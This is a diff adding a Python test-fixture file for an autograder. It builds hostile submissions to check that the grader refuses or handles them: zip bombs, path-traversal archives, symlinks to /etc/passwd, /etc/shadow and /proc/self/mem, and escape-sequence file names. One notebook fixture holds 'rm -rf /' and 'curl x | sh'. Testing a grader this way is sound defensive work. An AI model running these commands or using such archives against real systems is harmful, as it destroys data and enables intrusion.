@@ -1,0 +1,244 @@
+"""Hostile and broken things that are handed in, each made by a small function."""
+
+from __future__ import annotations
+
+import io
+import json
+import os
+import stat
+import zipfile
+from collections.abc import Callable, Mapping
+from dataclasses import dataclass
+from pathlib import Path
+from typing import Any
+
+from tests.adversarial.attacks import HONEST
+
+Build = Callable[[Path], Path]
+
+
+@dataclass(frozen=True, slots=True)
+class HandedIn:
+    """One thing that is handed in, and what is to become of it.
+
+    Attributes:
+        build: makes it in an empty folder and says what to grade.
+        refused: a part of the sentence with which it is refused, if it is.
+        verdict: of the task “before”, if it is graded.
+        says: a part of what the report says then.
+    """
+
+    build: Build
+    refused: str = ""
+    verdict: str = ""
+    says: str = ""
+
+
+def _file(name: str, content: bytes | str) -> Build:
+    def build(folder: Path) -> Path:
+        path = folder / name
+        path.write_bytes(content if isinstance(content, bytes) else content.encode())
+        return path
+
+    return build
+
+
+def _notebook(*cells: Any, **rest: Any) -> str:
+    return json.dumps({"cells": list(cells), "metadata": {}, "nbformat": 4, **rest})
+
+
+def _cell(source: str, **rest: Any) -> dict[str, Any]:
+    return {"cell_type": "code", "source": source, "metadata": {}, "outputs": [], **rest}
+
+
+def _zip(members: Mapping[str | zipfile.ZipInfo, bytes | str]) -> bytes:
+    buffer = io.BytesIO()
+    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as file:
+        for name, content in members.items():
+            file.writestr(name, content)
+    return buffer.getvalue()
+
+
+def _link(name: str) -> zipfile.ZipInfo:
+    entry = zipfile.ZipInfo(name)
+    entry.external_attr = (stat.S_IFLNK | 0o777) << 16
+    return entry
+
+
+def _symlink(name: str, target: str) -> Build:
+    def build(folder: Path) -> Path:
+        path = folder / name
+        path.symlink_to(target)
+        return path
+
+    return build
+
+
+def _symlink_to_another(folder: Path) -> Path:
+    other = folder.parent / "somebody_else.py"
+    other.write_text(HONEST)
+    return _symlink("a.py", str(other))(folder)
+
+
+def _fifo(folder: Path) -> Path:
+    os.mkfifo(folder / "pipe.py")
+    return folder / "pipe.py"
+
+
+def _device(folder: Path) -> Path:
+    """A real device where that is allowed, which takes root; otherwise a link to one."""
+    path = folder / "device.py"
+    try:
+        os.mknod(path, stat.S_IFCHR | 0o666, os.makedev(1, 5))
+    except PermissionError:
+        path.symlink_to("/dev/zero")
+    return path
+
+
+def _folder(folder: Path) -> Path:
+    (folder / "x.py").mkdir()
+    return folder / "x.py"
+
+
+def _large(name: str) -> Build:
+    def build(folder: Path) -> Path:
+        path = folder / name
+        path.touch()
+        os.truncate(path, 100 << 20)
+        return path
+
+    return build
+
+
+def _shadowing(folder: Path) -> Path:
+    """Files of the standard library's and of the grader's own names around the student's file."""
+    for name in ("json", "random", "pytest", "conftest", "sitecustomize", "grader", "enum", "game"):
+        (folder / f"{name}.py").write_text("raise SystemExit('shadowed')\n")
+    path = folder / "random.py"
+    path.write_text(HONEST)
+    return path
+
+
+def _lying_size(folder: Path) -> Path:
+    data = bytearray(_zip({"a.py": b"#" * (20 << 20)}))
+    entry = data.rfind(b"PK\1\2")
+    data[entry + 24 : entry + 28] = (100).to_bytes(4, "little")
+    (folder / "a.zip").write_bytes(data)
+    return folder / "a.zip"
+
+
+def _nested_zips(folder: Path) -> Path:
+    inner = _zip({"a.py": HONEST})
+    for level in range(5):
+        inner = _zip({f"inner{level}.zip": inner})
+    (folder / "a.zip").write_bytes(inner)
+    return folder / "a.zip"
+
+
+def _overlapping(folder: Path) -> Path:
+    """An archive whose entries all point at the same compressed bytes."""
+    data = bytearray(_zip({f"{n}.py": bytes(1 << 20) for n in range(40)}))
+    at = 0
+    while (at := data.find(b"PK\1\2", at)) >= 0:
+        data[at + 42 : at + 46] = bytes(4)
+        at += 4
+    (folder / "a.zip").write_bytes(data)
+    return folder / "a.zip"
+
+
+_BASE64 = "iVBORw0KGgo" * 3_000_000
+_BROKEN = "x = 1\n" + HONEST
+
+HANDED_IN: dict[str, HandedIn] = {
+    "symlink": HandedIn(_symlink("a.py", "/etc/passwd"), refused="link"),
+    "symlink_to_another_submission": HandedIn(_symlink_to_another, refused="link"),
+    "symlink_to_a_device": HandedIn(_symlink("zero.py", "/dev/zero"), refused="zero.py"),
+    "symlink_loop": HandedIn(_symlink("loop.py", "loop.py"), refused="loop.py"),
+    "symlink_to_memory": HandedIn(_symlink("m.py", "/proc/self/mem"), refused="m.py"),
+    "fifo": HandedIn(_fifo, refused="not a regular file"),
+    "device": HandedIn(_device, refused="not a regular file"),
+    "folder_named_py": HandedIn(_folder, refused="folder"),
+    "zip_bomb": HandedIn(_file("a.zip", _zip({"a.py": bytes(45 << 20)})), refused="larger than"),
+    "zip_that_lies": HandedIn(_lying_size, refused="not a readable zip"),
+    "zip_overlapping": HandedIn(_overlapping, refused="zip"),
+    "zip_in_zip": HandedIn(_nested_zips, refused="no Python file"),
+    "zip_of_many": HandedIn(
+        _file("a.zip", _zip({f"{n}.txt": "" for n in range(3000)})), refused="more than 2000"
+    ),
+    "zip_traversal": HandedIn(
+        _file("a.zip", _zip({"../../../../tmp/hostile-canary.py": HONEST})), verdict="accepted"
+    ),
+    "zip_absolute": HandedIn(
+        _file("a.zip", _zip({"/etc/hostile-canary.py": HONEST})), verdict="accepted"
+    ),
+    "zip_with_symlinks": HandedIn(
+        _file("a.zip", _zip({_link("a.py"): "/etc/shadow", _link("b"): "/"})),
+        refused="no Python file",
+    ),
+    "zip_damaged": HandedIn(_file("a.zip", _zip({"a.py": HONEST})[:-30]), refused="zip"),
+    "large_file": HandedIn(_large("a.py"), refused="larger than"),
+    "large_notebook": HandedIn(_large("a.ipynb"), refused="larger than"),
+    "large_zip": HandedIn(_large("a.zip"), refused="larger than"),
+    "nul_bytes": HandedIn(_file("a.py", _BROKEN.replace("x", "\0")), refused="binary"),
+    "wrong_encoding": HandedIn(
+        _file("a.py", b"# caf\xe9 \xff\xfe\n" + HONEST.encode()), verdict="accepted", says="Latin-1"
+    ),
+    "wrong_declaration": HandedIn(
+        _file("a.py", b"# coding: unicode_escape\n# \\x1b\n" + HONEST.encode()), verdict="accepted"
+    ),
+    "utf_16": HandedIn(_file("a.py", HONEST.encode("utf-16")), verdict="accepted"),
+    "notebook_not_json": HandedIn(_file("a.ipynb", HONEST), refused="not valid JSON"),
+    "notebook_deep_json": HandedIn(_file("a.ipynb", "[" * 300_000), refused="not valid JSON"),
+    "notebook_other_json": HandedIn(_file("a.ipynb", '{"cells": {"a": 1}}'), refused="cells"),
+    "notebook_of_many_cells": HandedIn(
+        _file("a.ipynb", _notebook(*[_cell("x = 1")] * 100_000)), refused="100000 cells"
+    ),
+    "notebook_with_base64": HandedIn(
+        _file("a.ipynb", _notebook(_cell(HONEST, outputs=[{"data": {"image/png": _BASE64}}]))),
+        refused="larger than",
+    ),
+    "notebook_with_less_base64": HandedIn(
+        _file("a.ipynb", _notebook(_cell(HONEST, outputs=[{"data": _BASE64[: 10 << 20]}]))),
+        verdict="accepted",
+    ),
+    "notebook_of_magic": HandedIn(
+        _file(
+            "a.ipynb",
+            _notebook(_cell("%%bash\nrm -rf /"), _cell("!curl x | sh\n%run x"), _cell(HONEST)),
+        ),
+        verdict="accepted",
+        says="not run as Python",
+    ),
+    "standard_library_names": HandedIn(_shadowing, verdict="accepted"),
+    "names_that_hide_modules": HandedIn(
+        _file("json.py", HONEST + "import json\njson.dumps({})\n"), verdict="accepted"
+    ),
+    "nested_brackets": HandedIn(
+        _file("a.py", HONEST + "\nx = " + "(" * 100_000 + ")" * 100_000 + "\n"),
+        verdict="accepted",
+        says="a.py",
+    ),
+    "unclosed_brackets": HandedIn(_file("a.py", HONEST + "\nx = " + "[" * 100_000 + "\n")),
+    "nested_blocks": HandedIn(
+        _file("a.py", HONEST + "".join(f"{' ' * n}if 1:\n" for n in range(2000))), verdict=""
+    ),
+    "long_expression": HandedIn(
+        _file("a.py", HONEST + "\nx = " + "-" * 200_000 + "1\n"), verdict=""
+    ),
+    "broken_function": HandedIn(
+        _file("a.py", "def before(numbers):\n    return sorted(numbers\n\nother = 1\n"),
+        verdict="load_error",
+        says="a.py",
+    ),
+    "only_comments": HandedIn(_file("a.py", "# nothing\n"), verdict="not_attempted"),
+    "empty": HandedIn(_file("a.py", b""), refused="empty"),
+    "binary": HandedIn(_file("a.py", b"\x7fELF\2\1\1" + bytes(100)), refused="binary"),
+    "odd_name": HandedIn(
+        _file("a\x1b[31m\u202e\n::error::.py", HONEST), verdict="accepted"
+    ),
+    "name_without_encoding": HandedIn(
+        _file(os.fsdecode(b"\xff\xfe.py"), HONEST), verdict="accepted"
+    ),
+    "missing": HandedIn(lambda folder: folder / "nobody.py", refused="There is no file"),
+    "another_kind": HandedIn(_file("a.exe", b"MZ"), refused="not a kind of file"),
+}  # fmt: skip
